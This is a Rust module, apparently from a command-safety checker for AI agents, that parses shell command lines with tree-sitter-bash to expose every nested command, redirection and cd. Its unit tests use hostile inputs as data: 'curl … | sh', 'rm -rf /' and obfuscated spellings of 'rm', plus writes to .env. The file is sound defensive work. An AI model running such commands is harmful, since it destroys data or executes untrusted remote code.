//! Shell parsing with tree-sitter-bash: a command line becomes the simple commands inside it,
//! wherever they hide (`;`, `&&`, pipes, `$(…)`, backticks, subshells, functions, loops), with
//! their words evaluated as far as quoting allows, their redirections, what feeds their input,
//! the variables set for them and the `cd`s that ran before them.

use std::collections::HashMap;
use tree_sitter::{Node, Parser};

/// One word of a command after quote removal. `Dynamic` holds the source text of a word whose
/// value is only known at run time (a variable, a substitution); `Glob` a word with unquoted
/// pattern characters, which the shell replaces with the file names it matches.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum Word {
    Literal(String),
    Glob(String),
    Dynamic(String),
}

impl Word {
    /// The text when it is known before the command runs (a pattern's text as written).
    pub fn literal(&self) -> Option<&str> {
        match self {
            Word::Literal(s) | Word::Glob(s) => Some(s),
            Word::Dynamic(_) => None,
        }
    }

    /// The text to show people: the literal value, or the source as written.
    pub fn shown(&self) -> &str {
        match self {
            Word::Literal(s) | Word::Glob(s) | Word::Dynamic(s) => s,
        }
    }

    pub fn is_glob(&self) -> bool {
        matches!(self, Word::Glob(_))
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum RedirectKind {
    /// `<`: the file is read.
    Read,
    /// `>`, `>>`, `&>`, `>|`, `<>`: the file is written.
    Write,
    /// `2>&1` and friends: no file involved.
    Duplicate,
}

#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Redirect {
    pub kind: RedirectKind,
    pub target: Word,
}

/// Where a command's standard input comes from. It matters for programs that read their script
/// from it (`bash <<< '…'`, `curl … | sh`).
#[derive(Debug, Clone, PartialEq, Eq, Hash, Default)]
pub enum Stdin {
    #[default]
    Inherited,
    /// A later stage of a pipeline: whatever the stage before it prints.
    Pipe,
    /// A here-document or here-string.
    Text(Word),
    /// `< file`.
    File(Word),
}

/// `NAME=value`, before a command or on its own.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Assignment {
    pub name: String,
    pub value: Word,
}

#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum CdTarget {
    /// `cd` alone or `cd ~`.
    Home,
    Path(Word),
}

/// A `cd` that ran earlier in the same shell.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Cd {
    pub to: CdTarget,
    /// The command runs only if this `cd` succeeded (`cd x && cmd`); otherwise it may run where
    /// the shell was before (`cd x; cmd`).
    pub certain: bool,
}

/// The folder a command runs in, as the `cd`s before it say.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum Location {
    /// The `cd`s before it, oldest first (none: the folder the command line started in).
    Known(Vec<Cd>),
    /// Not followable without running the shell (`cd -`, `popd`, a `cd` inside a loop).
    Unknown,
}

impl Default for Location {
    fn default() -> Self {
        Location::Known(Vec::new())
    }
}

/// A simple command: its words (the name first) and what surrounds it.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Default)]
pub struct SimpleCommand {
    pub words: Vec<Word>,
    pub redirects: Vec<Redirect>,
    /// Variables set for this command alone (`X=1 cmd`), or by it (`export X=1`).
    pub assignments: Vec<Assignment>,
    pub stdin: Stdin,
    pub location: Location,
}

/// Everything the parser found in a command line.
#[derive(Debug, Clone, Default)]
pub struct Parsed {
    pub commands: Vec<SimpleCommand>,
    /// Redirections not tied to a simple command (e.g. on a subshell or a loop).
    pub redirects: Vec<Redirect>,
    /// Variables set on their own (`X=1; …`): the shell and the commands after it see them.
    pub assignments: Vec<Assignment>,
    /// Of those, the ones that run whenever the line runs, in its own shell, with where each
    /// stands in the source: not in a subshell, a function, a loop, a condition, the
    /// background, or after `&&`/`||`.
    pub settled: Vec<(std::ops::Range<usize>, Assignment)>,
    /// The tree has syntax errors: what was seen is still reported, but the whole needs a look.
    pub has_error: bool,
    /// Process substitutions `<(…)` / `>(…)` (their commands are in `commands` too).
    pub process_substitution: bool,
    /// Functions that call themselves, directly or through each other (the fork bomb).
    pub recursive_function: bool,
    /// `${x@P}` expands a variable as a prompt, which runs the substitutions inside it.
    pub prompt_expansion: bool,
}

thread_local! {
    /// A parser per thread: creating one and loading the grammar costs more than parsing a
    /// typical command.
    static PARSER: std::cell::RefCell<Option<Parser>> = const { std::cell::RefCell::new(None) };
}

fn parse_tree(source: &str) -> Option<tree_sitter::Tree> {
    PARSER.with(|cell| {
        let mut slot = cell.borrow_mut();
        if slot.is_none() {
            let mut parser = Parser::new();
            parser
                .set_language(&tree_sitter_bash::LANGUAGE.into())
                .ok()?;
            *slot = Some(parser);
        }
        slot.as_mut()?.parse(source, None)
    })
}

/// More `cd`s than this before one command: where it runs is not followed.
const MAX_CDS: usize = 8;

/// A node waiting to be walked, with the shell it runs in.
#[derive(Clone, Copy)]
struct Item<'t> {
    node: Node<'t>,
    scope: usize,
    piped: bool,
    in_function: bool,
}

/// One shell (the top level, a subshell, a pipeline stage): the `cd`s run in it so far.
#[derive(Clone, Default)]
struct Scope<'t> {
    cds: Vec<(Node<'t>, CdTarget)>,
    unknown: bool,
}

/// Parses a command line. Never fails: what tree-sitter cannot parse is marked `has_error`.
pub fn parse(source: &str) -> Parsed {
    let mut parsed = Parsed::default();
    // The grammar's scanner crashes on some non-ASCII input (`''{` followed by U+E016B was a
    // segfault). Bash treats every non-ASCII character as an ordinary word character, so the
    // tree is built from a copy where each becomes as many `x` bytes as it had, and words are
    // read back from the original at the same byte offsets.
    let shape: String = if source.is_ascii() {
        source.to_string()
    } else {
        source
            .chars()
            .flat_map(|c| {
                let n = if c.is_ascii() { 0 } else { c.len_utf8() };
                std::iter::once(c)
                    .filter(|c| c.is_ascii())
                    .chain(std::iter::repeat_n('x', n))
            })
            .collect()
    };
    let Some(tree) = parse_tree(&shape) else {
        parsed.has_error = true;
        return parsed;
    };
    let root = tree.root_node();
    parsed.has_error = root.has_error();
    let src = source.as_bytes();

    let mut scopes: Vec<Scope> = vec![Scope::default()];
    let mut functions: Vec<(String, Vec<String>)> = Vec::new();
    let mut in_functions: Vec<usize> = Vec::new();
    let mut saw_cd = false;
    // An explicit stack instead of recursion: a command nested ten thousand `$(` deep must not
    // overflow ours.
    let mut stack = vec![Item {
        node: root,
        scope: 0,
        piped: false,
        in_function: false,
    }];
    while let Some(item) = stack.pop() {
        let node = item.node;
        match node.kind() {
            "command" => {
                let mut cmd = simple_command(node, src, item.piped);
                cmd.location = location(&scopes[item.scope], node);
                saw_cd |= follow_cd(&mut scopes[item.scope], node, &cmd);
                if item.in_function {
                    in_functions.push(parsed.commands.len());
                }
                parsed.commands.push(cmd);
                push_command_children(node, item, &mut stack);
                continue;
            }
            "declaration_command" => {
                let cmd = declaration(node, src);
                if item.in_function {
                    in_functions.push(parsed.commands.len());
                }
                parsed.commands.push(cmd);
                push_command_children(node, item, &mut stack);
                continue;
            }
            "redirected_statement" => {
                let body = node.child_by_field_name("body");
                let others: Vec<Node> = children(node).filter(|c| Some(*c) != body).collect();
                // After a here-document's `<<EOF`, the grammar hangs the rest of the line under
                // it: a `> file` there is still the command's.
                let redirects: Vec<Redirect> = others
                    .iter()
                    .flat_map(|c| {
                        let nested: Vec<Node> = if c.kind() == "heredoc_redirect" {
                            children(*c)
                                .filter(|n| n.kind() == "file_redirect")
                                .collect()
                        } else {
                            Vec::new()
                        };
                        std::iter::once(*c).chain(nested)
                    })
                    .filter_map(|c| redirect(c, src))
                    .collect();
                // A redirect on a simple command belongs to it; anything else stands alone.
                match body {
                    Some(b) if b.kind() == "command" => {
                        let mut cmd = simple_command(b, src, item.piped);
                        cmd.redirects.extend(redirects);
                        if let Some(s) = others.iter().rev().find_map(|c| stdin_of(*c, src)) {
                            cmd.stdin = s;
                        }
                        cmd.location = location(&scopes[item.scope], b);
                        saw_cd |= follow_cd(&mut scopes[item.scope], b, &cmd);
                        if item.in_function {
                            in_functions.push(parsed.commands.len());
                        }
                        parsed.commands.push(cmd);
                        // The body's own children (substitutions in its words) still need a walk.
                        push_command_children(b, item, &mut stack);
                        push_all(others.iter().rev().copied(), item, &mut stack);
                        continue;
                    }
                    _ => parsed.redirects.extend(redirects),
                }
            }
            "subshell" | "command_substitution" | "process_substitution" => {
                if node.kind() == "process_substitution" {
                    parsed.process_substitution = true;
                }
                // `$(< file)` is bash's way to read a file: a redirect with no command.
                parsed
                    .redirects
                    .extend(children(node).filter_map(|c| redirect(c, src)));
                let scope = new_scope(&mut scopes, item.scope);
                push_all(children(node).rev_vec(), Item { scope, ..item }, &mut stack);
                continue;
            }
            "pipeline" => {
                // After a here-document the rest of the pipeline hangs under the redirect, led by
                // its `|`: every stage there reads a pipe.
                let leading_pipe = node.child(0).is_some_and(|c| !c.is_named());
                let stages: Vec<Node> = children(node).filter(|c| c.is_named()).collect();
                let many = stages.len() > 1 || leading_pipe;
                for (i, stage) in stages.iter().enumerate().rev() {
                    let scope = if many {
                        new_scope(&mut scopes, item.scope)
                    } else {
                        item.scope
                    };
                    stack.push(Item {
                        node: *stage,
                        scope,
                        piped: item.piped || leading_pipe || i > 0,
                        ..item
                    });
                }
                continue;
            }
            // A `cd` in a loop moves every later round: where its commands run is not followed.
            "for_statement" | "c_style_for_statement" | "while_statement"
                if changes_folder(node, src) =>
            {
                scopes[item.scope].unknown = true;
            }
            "function_definition" => {
                if let (Some(name), Some(body)) = (
                    node.child_by_field_name("name"),
                    node.child_by_field_name("body"),
                ) {
                    functions.push((text(name, src).to_string(), called_names(body, src)));
                }
                push_all(
                    children(node).rev_vec(),
                    Item {
                        in_function: true,
                        ..item
                    },
                    &mut stack,
                );
                continue;
            }
            "variable_assignment" => {
                if let Some(a) = assignment(node, src) {
                    if settles(node) {
                        parsed
                            .settled
                            .push((node.start_byte()..node.end_byte(), a.clone()));
                    }
                    parsed.assignments.push(a);
                }
            }
            "expansion" => {
                let kinds: Vec<&str> = children(node).map(|c| c.kind()).collect();
                if kinds.windows(2).any(|w| w == ["@", "P"]) {
                    parsed.prompt_expansion = true;
                }
            }
            _ => {}
        }
        push_all(children(node).rev_vec(), item, &mut stack);
    }
    if saw_cd {
        // A function's body runs where it is called, which may be after any of the `cd`s.
        for i in in_functions {
            if let Some(c) = parsed.commands.get_mut(i) {
                c.location = Location::Unknown;
            }
        }
    }
    parsed.recursive_function = has_cycle(&functions);
    parsed
}

trait RevVec<'t> {
    fn rev_vec(self) -> Vec<Node<'t>>;
}

impl<'t, I: Iterator<Item = Node<'t>>> RevVec<'t> for I {
    /// The nodes in reverse, so the stack pops them in source order.
    fn rev_vec(self) -> Vec<Node<'t>> {
        let mut v: Vec<Node<'t>> = self.collect();
        v.reverse();
        v
    }
}

fn push_all<'t>(
    nodes: impl IntoIterator<Item = Node<'t>>,
    item: Item<'t>,
    stack: &mut Vec<Item<'t>>,
) {
    stack.extend(nodes.into_iter().map(|node| Item { node, ..item }));
}

/// A command's children, for the substitutions in its words; a prefix assignment's value is
/// walked without counting the assignment as one on its own.
fn push_command_children<'t>(node: Node<'t>, item: Item<'t>, stack: &mut Vec<Item<'t>>) {
    let mut kids = Vec::new();
    for c in children(node) {
        if c.kind() == "variable_assignment" {
            kids.extend(children(c));
        } else {
            kids.push(c);
        }
    }
    kids.reverse();
    push_all(kids, item, stack);
}

fn new_scope(scopes: &mut Vec<Scope>, parent: usize) -> usize {
    let copy = scopes.get(parent).cloned().unwrap_or_default();
    scopes.push(copy);
    scopes.len() - 1
}

/// Where a command runs, given the `cd`s its shell has seen so far.
fn location(scope: &Scope, cmd: Node) -> Location {
    if scope.unknown || scope.cds.len() > MAX_CDS {
        return Location::Unknown;
    }
    Location::Known(
        scope
            .cds
            .iter()
            .map(|(n, to)| Cd {
                to: to.clone(),
                certain: runs_only_after(*n, cmd),
            })
            .collect(),
    )
}

/// Whether an assignment runs whenever the line runs, in the line's own shell: nothing but
/// the line itself and lists lead to it, it is first in each list, and nothing sends it to
/// the background.
fn settles(node: Node) -> bool {
    let mut child = node;
    while let Some(parent) = child.parent() {
        if child.next_sibling().is_some_and(|s| s.kind() == "&") {
            return false;
        }
        match parent.kind() {
            "program" => return true,
            "list" if parent.child(0) == Some(child) => {}
            "variable_assignments" => {}
            // The grammar hangs `a && b > x` as a redirect of the whole list; bash gives it to
            // `b`, and a redirect never takes an assignment out of the line's shell anyway.
            "redirected_statement" if parent.child_by_field_name("body") == Some(child) => {}
            _ => return false,
        }
        child = parent;
    }
    false
}

/// Whether `cmd` runs only when `cd` succeeded: they meet in a `&&` list with the `cd` on its
/// left.
fn runs_only_after(cd: Node, cmd: Node) -> bool {
    let at = cmd.start_byte();
    let mut child = cd;
    while let Some(parent) = child.parent() {
        if parent.start_byte() <= at && at < parent.end_byte() {
            return parent.kind() == "list"
                && parent.child(0) == Some(child)
                && parent.child(1).is_some_and(|op| op.kind() == "&&");
        }
        child = parent;
    }
    false
}

/// Records the folder change a `cd`, `pushd` or `popd` makes. True when it was one.
fn follow_cd<'t>(scope: &mut Scope<'t>, node: Node<'t>, cmd: &SimpleCommand) -> bool {
    let Some(name) = cmd.words.first().and_then(Word::literal) else {
        return false;
    };
    let name = basename(name);
    if !matches!(name, "cd" | "pushd" | "popd" | "chdir") {
        return false;
    }
    let operands: Vec<&Word> = cmd
        .words
        .iter()
        .skip(1)
        .skip_while(|w| {
            w.literal()
                .is_some_and(|a| a.starts_with('-') && a.len() > 1 && a != "--" && name != "popd")
        })
        .skip_while(|w| w.literal() == Some("--"))
        .collect();
    match (name, operands.first()) {
        ("popd", _) => scope.unknown = true,
        ("pushd", None) => scope.unknown = true,
        (_, None) => scope.cds.push((node, CdTarget::Home)),
        (_, Some(w)) => match w.literal() {
            Some("~") => scope.cds.push((node, CdTarget::Home)),
            Some(a)
                if a == "-" || (name == "pushd" && (a.starts_with('+') || a.starts_with('-'))) =>
            {
                scope.unknown = true
            }
            _ => scope.cds.push((node, CdTarget::Path((*w).clone()))),
        },
    }
    true
}

/// Whether a `cd`-like command runs in this node's own shell (not in a subshell inside it).
fn changes_folder(node: Node, src: &[u8]) -> bool {
    let mut stack = vec![node];
    while let Some(n) = stack.pop() {
        match n.kind() {
            "subshell" | "command_substitution" | "process_substitution" => continue,
            "command" => {
                if let Some(name) = n
                    .child_by_field_name("name")
                    .map(|c| basename(text(c, src)).to_string())
                    && matches!(name.as_str(), "cd" | "pushd" | "popd" | "chdir")
                {
                    return true;
                }
            }
            _ => {}
        }
        stack.extend(children(n));
    }
    false
}

/// The names of the commands a function body calls.
fn called_names(body: Node, src: &[u8]) -> Vec<String> {
    let mut names = Vec::new();
    let mut stack = vec![body];
    while let Some(n) = stack.pop() {
        if n.kind() == "command"
            && let Some(first) = simple_command(n, src, false).words.first()
            && let Some(name) = first.literal()
        {
            names.push(name.to_string());
        }
        stack.extend(children(n));
    }
    names
}

/// Whether the functions call each other in a circle (`f` calls `g` calls `f`), or one calls
/// itself.
fn has_cycle(functions: &[(String, Vec<String>)]) -> bool {
    let index: HashMap<&str, usize> = functions
        .iter()
        .enumerate()
        .map(|(i, (n, _))| (n.as_str(), i))
        .collect();
    // 0: not visited, 1: on the current path, 2: done.
    let mut state = vec![0u8; functions.len()];
    for start in 0..functions.len() {
        if state[start] != 0 {
            continue;
        }
        let mut stack: Vec<(usize, usize)> = vec![(start, 0)];
        state[start] = 1;
        while let Some((f, next)) = stack.pop() {
            let calls = &functions[f].1;
            if let Some(callee) = calls.get(next) {
                stack.push((f, next + 1));
                if let Some(&c) = index.get(callee.as_str()) {
                    match state[c] {
                        1 => return true,
                        0 => {
                            state[c] = 1;
                            stack.push((c, 0));
                        }
                        _ => {}
                    }
                }
            } else {
                state[f] = 2;
            }
        }
    }
    false
}

fn children<'t>(node: Node<'t>) -> impl DoubleEndedIterator<Item = Node<'t>> {
    (0..node.child_count()).filter_map(move |i| node.child(i))
}

fn text<'s>(node: Node, src: &'s [u8]) -> &'s str {
    node.utf8_text(src).unwrap_or("")
}

fn simple_command(node: Node, src: &[u8], piped: bool) -> SimpleCommand {
    let mut cmd = SimpleCommand {
        stdin: if piped { Stdin::Pipe } else { Stdin::Inherited },
        ..SimpleCommand::default()
    };
    for child in children(node) {
        match child.kind() {
            "variable_assignment" => {
                if let Some(a) = assignment(child, src) {
                    cmd.assignments.push(a);
                }
            }
            "command_name" => {
                let inner = children(child).find(|c| c.is_named()).unwrap_or(child);
                cmd.words.push(word(inner, src));
            }
            k if k.ends_with("redirect") => {
                if let Some(r) = redirect(child, src) {
                    cmd.redirects.push(r);
                }
                if let Some(s) = stdin_of(child, src) {
                    cmd.stdin = s;
                }
            }
            _ if child.is_named() && child.kind() != "comment" => cmd.words.push(word(child, src)),
            _ => {}
        }
    }
    cmd
}

/// `export X=1`, `declare -x`, `local`, `readonly`: a command whose words are the keyword and
/// its options, and whose assignments are the variables it sets.
fn declaration(node: Node, src: &[u8]) -> SimpleCommand {
    let mut cmd = SimpleCommand::default();
    for child in children(node) {
        match child.kind() {
            "variable_assignment" => {
                if let Some(a) = assignment(child, src) {
                    cmd.assignments.push(a);
                }
            }
            "variable_name" => cmd.words.push(Word::Literal(text(child, src).to_string())),
            _ if !child.is_named() && cmd.words.is_empty() => {
                cmd.words.push(Word::Literal(text(child, src).to_string()))
            }
            _ if child.is_named() && child.kind() != "comment" => cmd.words.push(word(child, src)),
            _ => {}
        }
    }
    cmd
}

fn assignment(node: Node, src: &[u8]) -> Option<Assignment> {
    let name = node.child_by_field_name("name")?;
    let value = node
        .child_by_field_name("value")
        .map(|v| word(v, src))
        .unwrap_or(Word::Literal(String::new()));
    Some(Assignment {
        name: text(name, src).to_string(),
        value,
    })
}

pub fn basename(name: &str) -> &str {
    name.rsplit('/').next().unwrap_or(name)
}

fn redirect(node: Node, src: &[u8]) -> Option<Redirect> {
    match node.kind() {
        "file_redirect" => {
            let op = children(node)
                .find(|c| !c.is_named())
                .map(|c| text(c, src).to_string())
                .unwrap_or_default();
            let dest = node.child_by_field_name("destination").or_else(|| {
                children(node)
                    .rev()
                    .find(|c| c.is_named() && c.kind() != "file_descriptor")
            })?;
            let target = word(dest, src);
            let kind = match op.as_str() {
                "<" => RedirectKind::Read,
                ">&" | "<&" | ">&-" | "<&-"
                    if dest.kind() == "number" || target.literal() == Some("-") =>
                {
                    RedirectKind::Duplicate
                }
                _ => RedirectKind::Write,
            };
            Some(Redirect { kind, target })
        }
        // Here-documents and here-strings feed text in; no file is touched.
        _ => None,
    }
}

/// What a redirect feeds into the command's input, if it does.
fn stdin_of(node: Node, src: &[u8]) -> Option<Stdin> {
    match node.kind() {
        "herestring_redirect" => {
            let w = children(node).find(|c| c.is_named())?;
            Some(Stdin::Text(word(w, src)))
        }
        "heredoc_redirect" => {
            let start = children(node).find(|c| c.kind() == "heredoc_start")?;
            let quoted = text(start, src).contains(['\'', '"', '\\']);
            let body = children(node)
                .find(|c| c.kind() == "heredoc_body")
                .map(|b| text(b, src).to_string())
                .unwrap_or_default();
            // An unquoted delimiter lets `$…` and backticks expand in the body.
            Some(Stdin::Text(if quoted || !body.contains(['$', '`']) {
                Word::Literal(body)
            } else {
                Word::Dynamic(body)
            }))
        }
        "file_redirect" => {
            let op = children(node).find(|c| !c.is_named())?;
            (text(op, src) == "<")
                .then(|| redirect(node, src).map(|r| Stdin::File(r.target)))
                .flatten()
        }
        _ => None,
    }
}

/// Whether an unquoted word's text has pattern characters the shell would expand.
fn has_unescaped_glob(raw: &str) -> bool {
    let mut escaped = false;
    let mut open_bracket = false;
    for c in raw.chars() {
        if escaped {
            escaped = false;
            continue;
        }
        match c {
            '\\' => escaped = true,
            '*' | '?' => return true,
            '[' => open_bracket = true,
            ']' if open_bracket => return true,
            _ => {}
        }
    }
    false
}

/// Evaluates a word the way the shell would, as far as it can be known without running
/// anything: quotes removed, escapes applied, `'r''m'` joined.
fn word(node: Node, src: &[u8]) -> Word {
    let raw = text(node, src);
    match node.kind() {
        "word" if has_unescaped_glob(raw) => Word::Glob(unescape_bare(raw)),
        "word" | "number" => Word::Literal(unescape_bare(raw)),
        "raw_string" => Word::Literal(
            raw.trim_start_matches('\'')
                .trim_end_matches('\'')
                .to_string(),
        ),
        "ansi_c_string" => match decode_ansi_c(raw) {
            Some(s) => Word::Literal(s),
            None => Word::Dynamic(raw.to_string()),
        },
        "string" => {
            let mut out = String::new();
            for part in children(node) {
                match part.kind() {
                    "\"" => {}
                    "string_content" => out.push_str(&unescape_double(text(part, src))),
                    _ => return Word::Dynamic(raw.to_string()),
                }
            }
            Word::Literal(out)
        }
        "concatenation" => {
            let mut out = String::new();
            // The unquoted parts as written (quoted ones blanked): `.[e]nv` arrives in pieces,
            // and only together do they make a pattern.
            let mut bare = String::new();
            for part in children(node) {
                match word(part, src) {
                    Word::Literal(s) | Word::Glob(s) => {
                        if part.kind() == "word" {
                            bare.push_str(text(part, src));
                        } else {
                            bare.extend(std::iter::repeat_n('x', s.chars().count()));
                        }
                        out.push_str(&s);
                    }
                    Word::Dynamic(_) => return Word::Dynamic(raw.to_string()),
                }
            }
            if has_unescaped_glob(&bare) {
                Word::Glob(out)
            } else {
                Word::Literal(out)
            }
        }
        _ => Word::Dynamic(raw.to_string()),
    }
}

/// Backslashes in an unquoted word escape the next character; a backslash-newline vanishes.
fn unescape_bare(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut chars = raw.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('\n') | None => {}
                Some(n) => out.push(n),
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// Inside double quotes a backslash escapes only `$`, `` ` ``, `"`, `\` and newline.
fn unescape_double(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut chars = raw.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.peek() {
                Some('$' | '`' | '"' | '\\') => {
                    if let Some(n) = chars.next() {
                        out.push(n);
                    }
                }
                Some('\n') => {
                    chars.next();
                }
                _ => out.push(c),
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// `$'…'` strings: the escapes a model might use to spell a command name in hex or octal.
fn decode_ansi_c(raw: &str) -> Option<String> {
    let body = raw.strip_prefix("$'")?.strip_suffix('\'')?;
    let mut out: Vec<u8> = Vec::new();
    let mut chars = body.chars().peekable();
    let mut buf = [0u8; 4];
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
            continue;
        }
        let e = chars.next()?;
        match e {
            'n' => out.push(b'\n'),
            't' => out.push(b'\t'),
            'r' => out.push(b'\r'),
            'a' => out.push(7),
            'b' => out.push(8),
            'e' | 'E' => out.push(27),
            'f' => out.push(12),
            'v' => out.push(11),
            '\\' | '\'' | '"' | '?' => out.push(e as u8),
            'x' => {
                let mut v = 0u32;
                let mut n = 0;
                while n < 2 && chars.peek().is_some_and(|c| c.is_ascii_hexdigit()) {
                    v = v * 16 + chars.next()?.to_digit(16)?;
                    n += 1;
                }
                if n == 0 {
                    return None;
                }
                out.push(u8::try_from(v).ok()?);
            }
            '0'..='7' => {
                let mut v = e.to_digit(8)?;
                let mut n = 1;
                while n < 3 && chars.peek().is_some_and(|c| ('0'..='7').contains(c)) {
                    v = v * 8 + chars.next()?.to_digit(8)?;
                    n += 1;
                }
                out.push(u8::try_from(v & 0xff).ok()?);
            }
            'u' | 'U' => {
                let max = if e == 'u' { 4 } else { 8 };
                let mut v = 0u32;
                let mut n = 0;
                while n < max && chars.peek().is_some_and(|c| c.is_ascii_hexdigit()) {
                    v = v * 16 + chars.next()?.to_digit(16)?;
                    n += 1;
                }
                let ch = char::from_u32(v)?;
                out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
            }
            // `\c` control characters and anything unusual: give up, treat as run-time value.
            _ => return None,
        }
    }
    // Bash cuts a `$'…'` string at its first NUL byte: `$'.env\x00'` is `.env`.
    if let Some(nul) = out.iter().position(|b| *b == 0) {
        out.truncate(nul);
    }
    String::from_utf8(out).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(src: &str) -> Vec<String> {
        parse(src)
            .commands
            .iter()
            .map(|c| {
                c.words
                    .first()
                    .map(|w| w.shown().to_string())
                    .unwrap_or_default()
            })
            .collect()
    }

    #[test]
    fn finds_every_simple_command() {
        let src =
            "ls -la && echo \"$(curl -s http://x | sh)\"; (rm -rf /tmp/x) | tee `whoami` > out.txt";
        let mut n = names(src);
        n.sort();
        assert_eq!(n, ["curl", "echo", "ls", "rm", "sh", "tee", "whoami"]);
        let sh = parse(src)
            .commands
            .into_iter()
            .find(|c| c.words[0].shown() == "sh")
            .expect("sh");
        assert_eq!(sh.stdin, Stdin::Pipe);
    }

    #[test]
    fn quoting_is_removed() {
        let p = parse(r#"'r''m' -rf "/" ; \rm x; $'\x72\x6d' y; "r"m z"#);
        let n: Vec<_> = p.commands.iter().map(|c| c.words[0].clone()).collect();
        assert_eq!(
            n,
            [
                Word::Literal("rm".into()),
                Word::Literal("rm".into()),
                Word::Literal("rm".into()),
                Word::Literal("rm".into())
            ]
        );
        assert_eq!(p.commands[0].words[2], Word::Literal("/".into()));
    }

    #[test]
    fn variables_are_dynamic() {
        let p = parse("$CMD -rf / ; rm \"$HOME\"");
        assert!(matches!(p.commands[0].words[0], Word::Dynamic(_)));
        assert!(matches!(p.commands[1].words[1], Word::Dynamic(_)));
    }

    #[test]
    fn redirections_are_reads_and_writes() {
        let p = parse("echo hi > .env 2>&1; cat < secret.txt; ls &> /dev/null");
        assert_eq!(p.commands.len(), 3);
        assert_eq!(
            p.commands[0].redirects,
            [
                Redirect {
                    kind: RedirectKind::Write,
                    target: Word::Literal(".env".into())
                },
                Redirect {
                    kind: RedirectKind::Duplicate,
                    target: Word::Literal("1".into())
                }
            ]
        );
        assert_eq!(p.commands[1].redirects[0].kind, RedirectKind::Read);
        assert_eq!(p.commands[2].redirects[0].kind, RedirectKind::Write);
    }

    #[test]
    fn assignments_and_functions() {
        let p = parse("X=1 make; f() { rm -rf /; }; f");
        let n: Vec<_> = p
            .commands
            .iter()
            .map(|c| c.words[0].shown().to_string())
            .collect();
        assert_eq!(n, ["make", "rm", "f"]);
    }

    #[test]
    fn settled_assignments_run_whenever_the_line_does() {
        let settled = |src: &str| -> Vec<String> {
            parse(src)
                .settled
                .iter()
                .map(|(at, a)| format!("{}@{}", a.name, at.start))
                .collect()
        };
        assert_eq!(settled("f=$(mktemp); echo x > \"$f\""), ["f@0"]);
        assert_eq!(settled("ls; f=1\ng=2"), ["f@4", "g@8"]);
        assert_eq!(settled("d=$(mktemp -d) && cd \"$d\""), ["d@0"]);
        assert_eq!(settled("a=1 b=2; ls"), ["a@0", "b@4"]);
        assert_eq!(settled("f=1 && b > x && c"), ["f@0"]);
        for unsettled in [
            "(f=1); ls",
            "ls && f=1",
            "false || f=1",
            "f=1 & ls",
            "if true; then f=1; fi",
            "g() { f=1; }; g",
            "for x in a; do f=1; done",
            "echo $(f=1)",
            "ls | f=1",
            "(f=1) > x",
        ] {
            assert!(
                settled(unsettled).is_empty(),
                "{unsettled}: {:?}",
                settled(unsettled)
            );
        }
    }

    #[test]
    fn errors_are_flagged_not_hidden() {
        let p = parse("echo 'unterminated");
        assert!(p.has_error);
        let p = parse("rm -rf / ; ((");
        assert!(p.has_error);
        assert!(names("rm -rf / ; ((").contains(&"rm".to_string()));
    }

    #[test]
    fn non_ascii_words_survive_and_do_not_crash_the_scanner() {
        let p = parse("''{\u{E016B}");
        assert!(!p.commands.is_empty() || p.has_error);
        let p = parse("echo h\u{e9}llo \u{ff52}\u{ff4d} '\u{1F600}'");
        let words: Vec<_> = p.commands[0]
            .words
            .iter()
            .map(|w| w.shown().to_string())
            .collect();
        assert_eq!(
            words,
            ["echo", "h\u{e9}llo", "\u{ff52}\u{ff4d}", "\u{1F600}"]
        );
    }

    #[test]
    fn deep_nesting_does_not_overflow() {
        let deep = format!("{}echo hi{}", "$(".repeat(5000), ")".repeat(5000));
        let p = parse(&deep);
        assert!(!p.commands.is_empty());
    }
}
